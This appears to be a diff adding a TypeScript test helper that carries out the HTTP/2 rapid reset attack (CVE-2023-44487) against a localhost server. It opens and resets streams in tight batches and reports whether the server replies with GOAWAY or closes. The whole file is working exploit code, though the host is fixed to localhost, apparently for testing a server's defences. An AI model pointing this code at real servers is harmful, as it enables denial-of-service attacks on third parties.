@@ -1,0 +1,145 @@
+import { connect as tlsConnect, type TLSSocket } from 'node:tls';
+
+/**
+ * A hand-framed HTTP/2 client for attacks Node's own client will not make: streams opened and
+ * reset in a tight loop (rapid reset, CVE-2023-44487) with each HEADERS frame and its RST_STREAM
+ * written to the wire together. It reads the server's frames only to see a GOAWAY.
+ */
+export interface RapidResetResult {
+  /** Streams whose HEADERS and RST_STREAM were written. */
+  readonly streams: number;
+  /** The error code of the server's GOAWAY (11 is ENHANCE_YOUR_CALM), or undefined when none came. */
+  readonly goawayCode: number | undefined;
+  /** Milliseconds from the first stream to the GOAWAY, or to the end of the loop. */
+  readonly elapsedMs: number;
+  /** Whether the server closed the connection. */
+  readonly closed: boolean;
+}
+
+const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', 'latin1');
+const FRAME = { HEADERS: 0x1, RST_STREAM: 0x3, SETTINGS: 0x4, GOAWAY: 0x7 } as const;
+const END_HEADERS = 0x4;
+const ACK = 0x1;
+const CANCEL = 0x8;
+
+function frame(type: number, flags: number, streamId: number, payload: Buffer): Buffer {
+  const head = Buffer.alloc(9);
+  head.writeUIntBE(payload.length, 0, 3);
+  head.writeUInt8(type, 3);
+  head.writeUInt8(flags, 4);
+  head.writeUInt32BE(streamId & 0x7fffffff, 5);
+  return Buffer.concat([head, payload]);
+}
+
+/** HPACK: each field as a literal without indexing, new name, no Huffman (RFC 7541 §6.2.2). */
+function hpackLiterals(fields: readonly (readonly [string, string])[]): Buffer {
+  const parts: Buffer[] = [];
+  const length = (n: number): Buffer => {
+    if (n < 127) return Buffer.from([n]);
+    const bytes = [127];
+    let rest = n - 127;
+    while (rest >= 128) {
+      bytes.push((rest % 128) + 128);
+      rest = Math.floor(rest / 128);
+    }
+    bytes.push(rest);
+    return Buffer.from(bytes);
+  };
+  for (const [name, value] of fields) {
+    parts.push(Buffer.from([0x00]), length(name.length), Buffer.from(name, 'latin1'));
+    parts.push(length(value.length), Buffer.from(value, 'latin1'));
+  }
+  return Buffer.concat(parts);
+}
+
+/**
+ * Connects with TLS (ALPN h2, no client certificate) and opens and resets streams on `path`
+ * until `maxStreams` are sent, `maxMs` have passed, or the server answers GOAWAY or closes.
+ */
+export async function rapidReset(options: {
+  readonly port: number;
+  readonly ca: string | Buffer;
+  readonly path: string;
+  readonly maxStreams: number;
+  readonly maxMs: number;
+}): Promise<RapidResetResult> {
+  const socket: TLSSocket = tlsConnect({
+    host: '127.0.0.1',
+    port: options.port,
+    ca: options.ca,
+    servername: 'localhost',
+    ALPNProtocols: ['h2'],
+  });
+  socket.on('error', () => undefined);
+  await new Promise<void>((resolve, reject) => {
+    socket.once('secureConnect', resolve);
+    socket.once('close', () => {
+      reject(new Error('the connection closed before its handshake completed'));
+    });
+  });
+  let goawayCode: number | undefined;
+  let closed = false;
+  let inbound = Buffer.alloc(0);
+  socket.on('data', (data: Buffer) => {
+    inbound = Buffer.concat([inbound, data]);
+    while (inbound.length >= 9) {
+      const length = inbound.readUIntBE(0, 3);
+      if (inbound.length < 9 + length) break;
+      const type = inbound.readUInt8(3);
+      const flags = inbound.readUInt8(4);
+      const payload = inbound.subarray(9, 9 + length);
+      if (type === FRAME.GOAWAY && payload.length >= 8) goawayCode ??= payload.readUInt32BE(4);
+      if (type === FRAME.SETTINGS && (flags & ACK) === 0 && !socket.destroyed) {
+        socket.write(frame(FRAME.SETTINGS, ACK, 0, Buffer.alloc(0)));
+      }
+      inbound = inbound.subarray(9 + length);
+    }
+  });
+  const closing = new Promise<void>((resolve) => {
+    socket.once('close', () => {
+      closed = true;
+      resolve();
+    });
+  });
+  socket.write(Buffer.concat([PREFACE, frame(FRAME.SETTINGS, 0, 0, Buffer.alloc(0))]));
+
+  const block = hpackLiterals([
+    [':method', 'POST'],
+    [':scheme', 'https'],
+    [':authority', 'localhost'],
+    [':path', options.path],
+    ['content-type', 'application/grpc'],
+    ['te', 'trailers'],
+  ]);
+  const rst = Buffer.alloc(4);
+  rst.writeUInt32BE(CANCEL);
+  const started = performance.now();
+  let streams = 0;
+  let streamId = 1;
+  while (
+    streams < options.maxStreams &&
+    performance.now() - started < options.maxMs &&
+    goawayCode === undefined &&
+    !closed &&
+    streamId < 0x7fffffff - 400
+  ) {
+    const batch: Buffer[] = [];
+    for (let i = 0; i < 100; i++, streamId += 2, streams += 1) {
+      batch.push(frame(FRAME.HEADERS, END_HEADERS, streamId, block), frame(FRAME.RST_STREAM, 0, streamId, rst));
+    }
+    const flushed = socket.write(Buffer.concat(batch));
+    // Lets the server's frames in, and keeps the client's own buffer bounded.
+    await Promise.race([
+      closing,
+      new Promise<void>((resolve) => {
+        if (flushed) setImmediate(resolve);
+        else socket.once('drain', resolve);
+      }),
+    ]);
+  }
+  // A GOAWAY may be on its way as the loop ends.
+  await new Promise((resolve) => setTimeout(resolve, 200));
+  const elapsedMs = performance.now() - started;
+  socket.destroy();
+  return { streams, goawayCode, elapsedMs, closed };
+}
